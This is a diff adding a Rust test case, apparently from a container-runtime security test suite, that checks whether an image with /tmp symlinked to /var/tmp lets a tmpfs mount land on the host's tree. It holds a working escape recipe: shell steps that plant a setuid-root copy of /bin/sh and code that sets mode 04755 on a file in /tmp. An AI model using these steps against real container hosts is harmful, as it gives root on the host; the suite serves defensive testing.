@@ -1,0 +1,52 @@
+//! image-tmp-link: come in an image whose `tmp` is a link to another directory.
+
+use super::{Attempt, Letters, Need};
+use crate::{Host, Inside, Seen};
+use nix::errno::Errno;
+use nix::libc;
+use nix::sys::stat::{Mode, fchmod};
+use std::fs::File;
+
+/// The attempt.
+pub const ATTEMPT: Attempt = Attempt {
+    id: "image-tmp-link",
+    stake: "What the container's own file systems are for: here root on the host, for any user of it.",
+    story: "The root file system has a link to /var/tmp in the place of its directory /tmp, as many an honest image \
+            has. Where mount(2) follows it while the host's tree is in sight, the tmpfs lands on the /var/tmp of \
+            the host's tree, which the container never sees. Inside /tmp is a directory of the image, on the host's \
+            disk, and nobody is told. What /tmp on a tmpfs prevents is back: a set-user-ID file of root's that is \
+            left there is found on the host. Were the link /proc, the masks would be gone. The host looks through \
+            its own file tree.",
+    by_hand: &[
+        "mv rootfs/tmp rootfs/old; mkdir -p -m 1777 rootfs/var/tmp; ln -s /var/tmp rootfs/tmp    # on the host",
+        "cp /bin/sh /tmp/sh; chmod 4755 /tmp/sh; ls -l /tmp/sh",
+    ],
+    stopped_by: &["lab2-mounts/no-links", "lab2-mounts/tmp"],
+    after: &[],
+    man: &["openat2(2)", "symlink(7)", "mount(2)"],
+    letters: Letters { root: "E EEBBBBB", user: "E EEBBBBB", rootless: "E EEBBBBB" },
+    needs: &[Need::FreshHost, Need::SetuidFiles, Need::ImageLink { name: "tmp", to: "/var/tmp" }],
+    decisive: &[libc::SYS_fchmod],
+    inside,
+    witness,
+};
+
+fn inside(me: &mut Inside) -> Result<(), Errno> {
+    let left = File::create(format!("/tmp/{}", me.mark()));
+    let left = left.map_err(|error| Errno::from_raw(error.raw_os_error().unwrap_or(0)))?;
+    me.decisive("fchmod(04755) on a new file in /tmp");
+    fchmod(left, Mode::S_ISUID | Mode::from_bits_truncate(0o755))
+}
+
+fn witness(host: &Host) -> Seen {
+    if let Some(file) = host.setuid_files.iter().find(|file| file.ends_with(&host.mark)) {
+        let directory = file.trim_end_matches(&host.mark);
+        return Seen::Effect(format!("a set-user-ID file of root's lies in {directory} of the host"));
+    }
+    if host.call_succeeded() {
+        return Seen::Confined(
+            "the file was made, and the host's own file tree has no such file of root's".into(),
+        );
+    }
+    Seen::Nothing
+}
